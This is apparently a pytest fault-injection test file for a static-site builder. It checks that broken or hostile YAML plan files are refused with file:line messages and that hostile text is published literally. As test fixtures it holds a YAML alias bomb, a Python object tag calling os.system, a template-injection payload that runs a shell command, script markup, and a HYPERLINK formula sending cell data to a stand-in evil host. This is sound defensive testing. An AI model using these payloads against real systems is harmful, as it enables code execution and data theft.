"""Fault injection: hostile and broken plan files (issue 12).

Each case asserts what its user would see: the exit status, a `file:line` in the message where a file is at
fault, no traceback, the site untouched after a failed build, and hostile text published literally, never
evaluated, in HTML, JSON, CSV and XLSX."""
from __future__ import annotations

import errno
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import pytest

from conftest import ROOT, SITE_URL
from lnplan import yamlio
from lnplan.reading.files import PLAN_DIR

PY = sys.executable


def run(*args: str, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run([PY, "-m", *args], cwd=ROOT, capture_output=True, text=True, timeout=timeout)


def validate(plan_dir: Path) -> subprocess.CompletedProcess:
    return run("lnplan", "validate", "--plan", str(plan_dir))


def assert_clean_failure(r: subprocess.CompletedProcess, *expected: str) -> None:
    """Exit 1, no traceback, and the message names the place (file:line:column) and says what is wrong."""
    out = r.stdout + r.stderr
    assert r.returncode == 1, out
    assert "Traceback" not in out and "Error:" not in out.replace("error:", ""), out
    for e in expected:
        assert e in r.stderr, f"{e!r} not in:\n{r.stderr}"


def line_of(text: str, needle: str) -> int:
    return next(i for i, line in enumerate(text.splitlines(), 1) if needle in line)


# ---- broken and hostile YAML: validate refuses each with file:line ------------------------------------------

BOMB = "".join(f"x{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9) if i else ', '.join(['lol'] * 9)}]\n" for i in range(9))


def _replace(rel: str, old: str, new: str):
    def change(copy) -> str:
        text = copy.read(rel)
        assert old in text
        copy.write(rel, text.replace(old, new, 1))
        return rel
    return change


def _append(rel: str, extra: str):
    def change(copy) -> str:
        copy.write(rel, copy.read(rel) + extra)
        return rel
    return change


# (case, change to a copy of plan/, text the offending line contains, words the message must contain)
YAML_CASES = [
    ("alias-bomb", _append("vocabularies.yaml", BOMB), "x0: &a0", "anchor (&a0) is not allowed"),
    ("merge-key", _replace("units.yaml", "  - id: commerce\n", "  - id: commerce\n    <<: {x: 1}\n"), "<<: {x: 1}", "merge key"),
    ("nul-byte", _replace("chapters/2.yaml", "zh: 提升沈阳", "zh: 提升\x00沈阳"), "\x00", "U+0000"),
    ("esc-byte", _replace("chapters/2.yaml", "zh: 提升沈阳", "zh: 提升\x1b沈阳"), "\x1b", "U+001B"),
    ("zero-width", _replace("chapters/2.yaml", "zh: 提升沈阳", "zh: 提升\u200b沈阳"), "\u200b", "U+200B ZERO WIDTH SPACE"),
    ("deep-nesting", _replace("units.yaml", "kind: collective", "kind: " + "[" * 10000 + "]" * 10000), "[[[[", "nest more than"),
    ("binary-tag", _replace("units.yaml", "kind: collective", "kind: !!binary aGVsbG8="), "!!binary", "explicit tag"),
    ("python-tag", _replace("units.yaml", "kind: collective", "kind: !!python/object/apply:os.system ['id']"), "!!python", "explicit tag"),
    ("duplicate-key", _replace("units.yaml", "  - id: commerce\n", "  - id: commerce\n    id: trade\n"), "id: trade", "duplicate key 'id'"),
    ("huge-int", _replace("targets.yaml", "value: 30\n", f"value: {10 ** 400}\n"), "value: 1000", "a number of 401 digits"),
    ("huge-float", _replace("targets.yaml", "value: 30\n", "value: 1.0e+308\n"), "value: 1.0e+308", "out of range"),
    ("nan", _replace("targets.yaml", "value: 30\n", "value: .nan\n"), "value: .nan", "not a finite number"),
    ("inf", _replace("targets.yaml", "value: 30\n", "value: .inf\n"), "value: .inf", "not a finite number"),
    ("negative", _replace("targets.yaml", "value: 30\n", "value: -30\n"), "value: -30", "expected a number at least 0"),
    ("id-newline", _replace("units.yaml", "  - id: commerce\n", '  - id: "commerce\\n"\n'), 'id: "commerce', "U+000A LINE FEED"),
    ("reserved-id", _replace("places.yaml", "  - id: shenyang\n", "  - id: index\n"), "id: index", "'index' is reserved"),
    ("overlong-text", _replace("chapters/2.yaml", "\n      en: ", "\n      en: " + "x" * 40000), "x" * 100, "the limit for this field is 8,000"),
]


@pytest.mark.parametrize("case, change, needle, message", YAML_CASES, ids=[c[0] for c in YAML_CASES])
def test_validate_refuses_with_file_and_line(plan_copy, case, change, needle, message):
    rel = change(plan_copy)
    line = line_of(plan_copy.read(rel), needle)
    started = time.monotonic()
    r = validate(plan_copy.dir)
    assert_clean_failure(r, f"{rel}:{line}:", message)
    assert time.monotonic() - started < 60  # the alias bomb is refused before any expansion


def test_a_directory_named_like_a_chapter(plan_copy):
    (plan_copy.dir / "chapters" / "9.yaml").mkdir()
    assert_clean_failure(validate(plan_copy.dir), "chapters/9.yaml: (document): is a directory")


@pytest.mark.parametrize("name, message", [("units.yml", "rename it to units.yaml"), ("notes.txt", "unexpected file"),
                                           ("chapters/draft.md", "unexpected file")])
def test_files_the_plan_does_not_read_are_refused(plan_copy, name, message):
    (plan_copy.dir / name).write_text("id: x\n", encoding="utf-8")
    assert_clean_failure(validate(plan_copy.dir), f"{name}: (document): unexpected file", message)


def test_a_huge_file_is_refused_before_it_is_read(plan_copy):
    text = plan_copy.read("glossary.yaml")
    plan_copy.write("glossary.yaml", text + "# " + "x" * (50 * 1024 * 1024) + "\n")
    assert_clean_failure(validate(plan_copy.dir), "glossary.yaml: (document): file is", "limited to 2,097,152 bytes")


def test_another_plan_directory_says_the_source_is_not_compared(plan_copy):
    r = validate(plan_copy.dir)
    assert r.returncode == 0
    assert "is not compared with source/plan.zh.txt" in r.stderr and "--source" in r.stderr


# ---- make fmt never loses text or comments ------------------------------------------------------------------

@pytest.mark.parametrize("old, new, needle, message", [
    ("  - id: commerce\n", "  - id: commerce\n    id: trade\n", "id: trade", "duplicate key 'id'"),
    ("  - id: commerce\n", "  # the provincial commerce department\n  - id: commerce\n", "# the provincial", "a comment"),
])
def test_fmt_refuses_what_it_would_lose_and_writes_nothing(plan_copy, old, new, needle, message):
    units = plan_copy.read("units.yaml").replace(old, new, 1)
    plan_copy.write("units.yaml", units)
    other = plan_copy.dir / "places.yaml"  # a file fmt would otherwise rewrite
    other.write_text(other.read_text(encoding="utf-8").replace("\n  ", "\n"), encoding="utf-8")
    before = other.read_text(encoding="utf-8")
    r = run("lnplan", "fmt", "--plan", str(plan_copy.dir))
    assert_clean_failure(r, f"units.yaml:{line_of(units, needle)}:", message, "nothing was formatted")
    assert plan_copy.read("units.yaml") == units and other.read_text(encoding="utf-8") == before


# ---- the output directory ------------------------------------------------------------------------------------

@pytest.mark.parametrize("out", ["plan", "docs", ".", "docs/site"])
def test_build_refuses_an_output_directory_that_holds_sources(out):
    before = sorted(p.relative_to(ROOT) for p in (ROOT / "plan").rglob("*"))
    r = run("lnplan.build", "--out", str(ROOT / out))
    assert_clean_failure(r, "refused: --out")
    assert sorted(p.relative_to(ROOT) for p in (ROOT / "plan").rglob("*")) == before
    assert (ROOT / "docs" / "assets" / "extra.css").is_file()


def test_build_refuses_a_directory_it_did_not_write(tmp_path):
    out = tmp_path / "mine"
    out.mkdir()
    (out / "thesis.tex").write_text("months of work", encoding="utf-8")
    r = run("lnplan.build", "--out", str(out))
    assert_clean_failure(r, "was not written by a build")
    assert (out / "thesis.tex").read_text(encoding="utf-8") == "months of work"


# ---- operating-system errors and engine tracebacks end in one line ---------------------------------------------

@pytest.mark.parametrize("code, words", [(errno.EROFS, "Read-only file system"), (errno.ENOSPC, "No space left on device"),
                                         (errno.EACCES, "Permission denied")])
def test_os_errors_end_in_one_line(tmp_path, monkeypatch, capsys, code, words):
    from lnplan import build as b
    from lnplan.cli import run_cli

    out = tmp_path / "site"
    out.mkdir()
    (out / b.MARKER).write_text("")
    (out / "index.html").write_text("previous")

    def fail(*args, **kwargs):
        raise OSError(code, os.strerror(code), str(tmp_path / ".build-x"))
    monkeypatch.setattr(b.tempfile, "TemporaryDirectory", fail)
    assert run_cli(lambda: b.build(out, SITE_URL, PLAN_DIR)) == 1
    err = capsys.readouterr().err
    assert words in err and "Traceback" not in err and str(tmp_path) in err
    assert (out / "index.html").read_text() == "previous"


def test_an_engine_traceback_is_cut_to_what_went_wrong():
    from lnplan.build import summarize

    output = ("INFO - Building documentation...\nTraceback (most recent call last):\n  File \"x.py\", line 1, in <module>\n"
              "    f.write(data)\nOSError: [Errno 28] No space left on device\n")
    assert summarize(output) == "OSError: [Errno 28] No space left on device"
    # A page that fails to render: the INFO lines before it are dropped, mkdocs-macros' reason is kept.
    macros = ("INFO - Cleaning site directory\nINFO - The following pages exist in the docs directory, but are not included "
              "in the nav:\n  - measures/2.1.1.md\nWARNING -  [macros] - ERROR # _Macro Rendering Error_\n\n_File_: "
              "`measures/2.1.1.md`\n\n_KeyError_: 'x'\n")
    assert summarize(macros).startswith("WARNING -  [macros]") and "_File_: `measures/2.1.1.md`" in summarize(macros)


def test_a_text_too_long_for_a_spreadsheet_cell_is_never_cut(plan):
    import dataclasses

    from lnplan.export import XLSX_MAX_CELL, tasks_xlsx
    from lnplan.model import Text

    m = plan.measures["2.1.1"]
    long = dataclasses.replace(m, text=Text("字" * (XLSX_MAX_CELL + 1), "x"))
    with pytest.raises(ValueError, match="would be cut off"):
        tasks_xlsx(plan, [long], {"zh": "t", "en": "t"})


# ---- interrupted, killed and concurrent builds -------------------------------------------------------------------

def _engines(marker: str) -> list[int]:
    """Processes whose command line mentions marker (an engine building into a given temporary directory)."""
    pids = []
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                cmd = (d / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if marker in cmd and "mkdocs" in cmd and int(d.name) != os.getpid():
                pids.append(int(d.name))
    return pids


def _start(out: Path) -> subprocess.Popen:
    return subprocess.Popen([PY, "-m", "lnplan.build", "--out", str(out)], cwd=ROOT, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, start_new_session=True)


def _temp_with_engines(parent: Path, pid: int, timeout: float = 180) -> Path:
    """Wait until the build `pid` has its temporary directory and both engines running; return the directory."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for d in parent.glob(".build-*"):
            owner = d / "owner.pid"
            if owner.exists() and owner.read_text() == str(pid) and len(_engines(str(d))) == 2:
                return d
        time.sleep(0.2)
    raise AssertionError("the build never started its engines")


@pytest.fixture(scope="module")
def build_runs(tmp_path_factory):
    """One killed build (SIGKILL), then two builds at once into the same parent, one of them interrupted (Ctrl-C)."""
    parent = tmp_path_factory.mktemp("builds")
    killed = _start(parent / "killed")
    killed_tmp = _temp_with_engines(parent, killed.pid)
    killed.kill()
    killed.wait()

    interrupted_out = parent / "interrupted"
    interrupted_out.mkdir()
    (interrupted_out / ".lnplan-site").write_text("")
    (interrupted_out / "index.html").write_text("the previous site")
    finished = _start(parent / "finished")
    interrupted = _start(interrupted_out)
    interrupted_tmp = _temp_with_engines(parent, interrupted.pid)
    os.killpg(interrupted.pid, signal.SIGINT)  # what Ctrl-C in a terminal does
    i_out, i_err = interrupted.communicate(timeout=120)
    f_out, f_err = finished.communicate(timeout=900)
    time.sleep(1)
    return {"parent": parent, "killed_tmp": killed_tmp, "interrupted": (interrupted.returncode, i_out + i_err),
            "interrupted_tmp": interrupted_tmp, "interrupted_out": interrupted_out, "finished": (finished.returncode, f_out + f_err)}


def test_ctrl_c_exits_130_in_one_line_and_leaves_the_site(build_runs):
    code, output = build_runs["interrupted"]
    assert code == 130 and "interrupted" in output and "Traceback" not in output
    assert (build_runs["interrupted_out"] / "index.html").read_text() == "the previous site"
    assert not build_runs["interrupted_tmp"].exists()
    assert _engines(str(build_runs["interrupted_tmp"])) == []


def test_a_killed_build_leaves_no_engine_and_the_next_build_removes_its_files(build_runs):
    assert _engines(str(build_runs["killed_tmp"])) == []  # the engines died with their build
    assert not build_runs["killed_tmp"].exists()  # removed by the next build in the same place


def test_two_builds_at_once_still_work(build_runs):
    code, output = build_runs["finished"]
    assert code == 0, output
    assert (build_runs["parent"] / "finished" / "en" / "index.html").is_file()
    assert list(build_runs["parent"].glob(".build-*")) == []


# ---- hostile text: published literally, never evaluated ------------------------------------------------------------

def payload(tag: str, proof: Path) -> str:
    """A spreadsheet formula start, template syntax that would print 49, run a shell command (creating `proof`) and
    drop text if evaluated, and markup that would run a script or make text bold if it were not escaped."""
    return (f"={tag} {{{{ 7*7 }}}} {{% if true %}}IF{{% endif %}} {{# hidden #}} "
            f"{{{{ cycler.__init__.__globals__.os.system('touch {proof}') }}}} <script>alert(1)</script> <b>bold</b> & |x|")


FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"Click me")'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    proof = root / "code-ran"
    plan_dir = root / "plan"
    shutil.copytree(PLAN_DIR, plan_dir)
    texts = {}

    def edit(rel, change):
        path = plan_dir / rel
        data, _ = yamlio.load(path.read_text(encoding="utf-8"))
        change(data)
        path.write_text(yamlio.dump(data), encoding="utf-8")

    def put(obj, key, tag):
        texts[tag] = obj[key] = payload(tag, proof)

    def chapter2(d):
        put(d["title"], "en", "CH-EN")  # page title and navigation of every English page
        put(d["title"], "zh", "CH-ZH")
        put(d["sections"][0]["title"], "en", "SEC-EN")  # a heading and breadcrumbs
        item = d["sections"][0]["items"][0]
        put(item["title"], "en", "ITEM-EN")  # the measure page's h1 and title, task cards
        put(item["text"], "en", "TEXT-EN")  # description, JSON-LD, body
        item["text"]["en"] = texts["TEXT-EN"] = "@SUM(1+1) " + item["text"]["en"]  # a formula start in CSV
    edit("chapters/2.yaml", chapter2)

    def units(d):
        u = {x["id"]: x for x in d["units"]}
        u["commerce"]["name"]["en"] = FORMULA
        put(u["development-and-reform-commission"]["name"], "en", "UNIT-EN")  # tables, unit page title
        put(u["development-and-reform-commission"]["full_name"], "zh", "UNITFULL-ZH")  # title attributes
    edit("units.yaml", units)
    edit("places.yaml", lambda d: put(next(p for p in d["places"] if p["id"] == "dalian")["name"], "en", "PLACE-EN"))
    edit("targets.yaml", lambda d: put(d["targets"][0]["metric"], "en", "METRIC-EN"))
    edit("glossary.yaml", lambda d: put(d["terms"][0]["note"], "en", "NOTE-EN"))
    edit("document.yaml", lambda d: (put(d["preamble"], "en", "PREAMBLE-EN"), put(d["notice"]["text"], "zh", "NOTICE-ZH")))
    # The payloads replace texts that translation and data corrections describe; keep only the source corrections.
    def corrections(d):
        d["corrections"] = [r for r in d["corrections"] if r["kind"] == "source"]
        put(d["corrections"][0]["reason"], "en", "CORR-EN")  # the corrections page's table
    edit("corrections.yaml", corrections)
    edit("places.yaml", lambda d: put(d["sources"][0]["title"], "en", "SOURCE-EN"))  # the map's list of sources
    edit("place_names.yaml", lambda d: put(next(n for n in d["names"] if n["form"] == "桓仁")["name"], "en", "FORM-EN"))  # card reasons
    edit("releases.yaml", lambda d: put(d["releases"][-1]["summary"], "en", "RELEASE-EN"))  # changes page and feed
    # The releases record the corrections they contain: keep those that are still there.
    edit("releases.yaml", lambda d: [r.__setitem__("corrections", [c for c in r["corrections"] if c <= "C005"]) for r in d["releases"]])
    out = root / "site"
    r = run("lnplan.build", "--plan", str(plan_dir), "--out", str(out), timeout=900)
    assert r.returncode == 0, r.stderr
    return {"site": out, "proof": proof, "texts": texts}


class _Parts(HTMLParser):
    """The parts of a page a reader or a search engine sees: title, navigation, headings, cells, meta, JSON-LD."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.parts: dict[str, list[str]] = {}
        self.stack: list[str] = []
        self.nav = 0

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "meta" and a.get("name") == "description":
            self.parts.setdefault("description", []).append(a.get("content", ""))
        if tag == "nav":
            self.nav += 1
        if tag in ("title", "h1", "h2", "h3", "td", "th", "script", "a", "p", "li"):
            self.stack.append(tag)
        for k in ("title", "aria-label"):
            if k in a:
                self.parts.setdefault("attribute", []).append(a[k])

    def handle_endtag(self, tag):
        if tag in ("li", "p") and tag in self.stack:  # HTML closes these implicitly too
            while self.stack[-1] != tag:
                self.stack.pop()
        if tag == "nav":
            self.nav -= 1
        if self.stack and self.stack[-1] == tag:
            self.stack.pop()

    def handle_data(self, data):
        if self.stack:
            where = "nav" if self.nav and self.stack[-1] == "a" else self.stack[-1]
            self.parts.setdefault(where, []).append(data)


def parts(site: Path, page: str) -> dict[str, str]:
    p = _Parts()
    p.feed((site / page).read_text(encoding="utf-8"))
    return {k: "\n".join(v) for k, v in p.parts.items()}


def test_no_template_in_plan_text_was_evaluated(hostile):
    assert not hostile["proof"].exists()  # the shell command in the payload never ran
    evaluated = [f"{tag} 49" for tag in hostile["texts"]]  # what any payload would have become
    for page in hostile["site"].rglob("*.html"):
        shown = unescape(page.read_text(encoding="utf-8"))
        assert not [e for e in evaluated if e in shown], page


@pytest.mark.parametrize("page, tag, where", [
    ("en/plan/2/index.html", "CH-EN", "title"), ("en/plan/2/index.html", "CH-EN", "h1"),
    ("en/measures/3.1.1/index.html", "CH-EN", "nav"), ("plan/2/index.html", "CH-ZH", "title"), ("index.html", "CH-ZH", "nav"),
    ("en/plan/2/index.html", "SEC-EN", "h2"), ("en/measures/2.1.1/index.html", "ITEM-EN", "title"),
    ("en/measures/2.1.1/index.html", "ITEM-EN", "h1"), ("en/measures/2.1.1/index.html", "TEXT-EN", "description"),
    ("en/measures/2.1.1/index.html", "TEXT-EN", "p"), ("en/units/development-and-reform-commission/index.html", "UNIT-EN", "title"),
    ("en/units/index.html", "UNIT-EN", "a"), ("units/index.html", "UNITFULL-ZH", "attribute"),
    ("en/places/dalian/index.html", "PLACE-EN", "h1"), ("en/targets/index.html", "METRIC-EN", "td"),
    ("en/glossary/index.html", "NOTE-EN", "td"), ("en/index.html", "PREAMBLE-EN", "description"),
    ("plan/index.html", "NOTICE-ZH", "p"), ("en/corrections/index.html", "CORR-EN", "td"), ("en/places/index.html", "SOURCE-EN", "li"),
    ("en/places/benxi/index.html", "FORM-EN", "p"), ("en/changes/index.html", "RELEASE-EN", "p"),
])
def test_hostile_text_is_shown_literally(hostile, page, tag, where):
    found = parts(hostile["site"], page).get(where, "")
    expected = hostile["texts"][tag]
    if where == "description":  # descriptions are cut to 160 characters
        expected = expected[:120]
    assert expected in found, f"{tag} not shown literally in <{where}> of {page}:\n{found[:500]}"


def test_hostile_text_in_json_ld_is_data(hostile):
    html = (hostile["site"] / "en/measures/2.1.1/index.html").read_text(encoding="utf-8")
    block = re.search(r'<script type="application/ld\+json">(.*?)</script>', html, re.S).group(1)
    data = json.loads(block)
    assert hostile["texts"]["ITEM-EN"] in data["name"] and "<b>" not in block  # "<" is escaped inside <script>


def test_hostile_text_in_plan_json_and_csv_is_unchanged_except_the_formula_guard(hostile):
    import csv
    import io

    data = json.loads((hostile["site"] / "data/plan.json").read_text(encoding="utf-8"))
    units = {u["id"]: u for u in data["units"]}
    assert units["commerce"]["name"]["en"] == FORMULA and units["development-and-reform-commission"]["name"]["en"] == hostile["texts"]["UNIT-EN"]
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO((hostile["site"] / "data/units.csv").read_text(encoding="utf-8-sig")))}
    assert rows["commerce"]["name_en"] == "'" + FORMULA  # shown as text by Excel, WPS and LibreOffice
    assert rows["development-and-reform-commission"]["name_en"] == "'" + hostile["texts"]["UNIT-EN"]
    measures = {r["id"]: r for r in csv.DictReader(io.StringIO((hostile["site"] / "data/measures.csv").read_text(encoding="utf-8-sig")))}
    assert measures["2.1.1"]["text_en"] == "'" + hostile["texts"]["TEXT-EN"]
    tasks = (hostile["site"] / "data/units/commerce.en.csv").read_text(encoding="utf-8-sig")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in csv.reader(io.StringIO(tasks)) for cell in row)


def test_every_csv_cell_that_carries_hostile_text_is_defused(hostile):
    """Every payload begins with '=': wherever one reaches a CSV download (units, places, targets, corrections,
    sources, task tables…), the cell starts with the apostrophe that makes spreadsheets show it as text."""
    import csv
    import io

    reached, bad = set(), []
    for f in sorted((hostile["site"] / "data").rglob("*.csv")):
        for row in csv.reader(io.StringIO(f.read_text(encoding="utf-8-sig"))):
            for cell in row:
                if cell.startswith(("=", "+", "-", "@")):
                    bad.append((f.name, cell[:40]))
                reached |= {tag for tag, text in hostile["texts"].items() if cell == "'" + text}
    assert bad == []
    assert {"UNIT-EN", "METRIC-EN", "CORR-EN", "TEXT-EN"} <= reached, reached


def test_formulas_in_plan_text_are_text_cells_in_xlsx(hostile):
    import openpyxl

    for name in ("tasks.xlsx", "units/commerce.xlsx"):
        wb = openpyxl.load_workbook(hostile["site"] / "data" / name)
        cells = [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
        assert cells, name
        assert all(c.data_type == "s" and FORMULA in c.value for c in cells), name
        starts = [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith(("@SUM", "="))]
        assert starts and all(c.data_type == "s" for c in starts), name


def test_hostile_text_in_the_feed_is_text(hostile):
    from xml.etree import ElementTree

    feed = ElementTree.parse(hostile["site"] / "en" / "feed.xml").getroot()
    texts = ["".join(e.itertext()) for e in feed.iter()]
    assert any(hostile["texts"]["RELEASE-EN"] in t for t in texts)  # well-formed XML, the payload shown as written
